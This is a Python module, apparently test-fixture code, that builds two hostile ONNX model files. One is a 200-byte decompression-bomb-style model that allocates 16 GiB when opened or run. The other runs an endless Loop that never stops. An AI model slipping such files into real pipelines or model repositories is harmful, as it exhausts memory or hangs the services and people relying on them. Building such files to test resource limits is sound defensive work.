"""Models as small files that mean harm to whoever runs them: one asks for memory, the other never answers."""

from __future__ import annotations

from pathlib import Path

import onnx
from onnx import TensorProto, helper


def save_swelling(path: Path) -> Path:
    """A model of 4x4 images, of 200 bytes, that makes 16 GiB while it is opened or run."""
    shape = helper.make_tensor("shape", TensorProto.INT64, [2], [1 << 16, 1 << 16])
    nodes = [
        helper.make_node("Flatten", ["x"], ["flat"]),
        helper.make_node("ConstantOfShape", ["shape"], ["zeros"]),
        helper.make_node("ReduceSum", ["zeros"], ["sum"], keepdims=0),
        helper.make_node("Add", ["flat", "sum"], ["y"]),
    ]
    return _save(path, nodes, [shape])


def save_endless(path: Path) -> Path:
    """A model of 4x4 images that goes round in a loop for as long as nobody ends it."""
    count, condition = helper.make_tensor_value_info("i", TensorProto.INT64, []), TensorProto.BOOL
    body = helper.make_graph(
        [helper.make_node("Identity", ["go"], ["on"]), helper.make_node("Mul", ["old", "old"], ["new"])],
        "body",
        [
            count,
            helper.make_tensor_value_info("go", condition, []),
            helper.make_tensor_value_info("old", TensorProto.FLOAT, None),
        ],
        [helper.make_tensor_value_info("on", condition, []), helper.make_tensor_value_info("new", TensorProto.FLOAT, None)],
    )
    nodes = [
        helper.make_node("Flatten", ["x"], ["flat"]),
        helper.make_node("Loop", ["rounds", "true", "flat"], ["y"], body=body),
    ]
    rounds = helper.make_tensor("rounds", TensorProto.INT64, [], [(1 << 63) - 1])
    return _save(path, nodes, [rounds, helper.make_tensor("true", condition, [], [True])])


def _save(path: Path, nodes: list[onnx.NodeProto], tensors: list[onnx.TensorProto]) -> Path:
    given = helper.make_tensor_value_info("x", TensorProto.FLOAT, ["n", 1, 4, 4])
    graph = helper.make_graph(nodes, "g", [given], [helper.make_tensor_value_info("y", TensorProto.FLOAT, None)], tensors)
    onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)], ir_version=8), path)
    return path
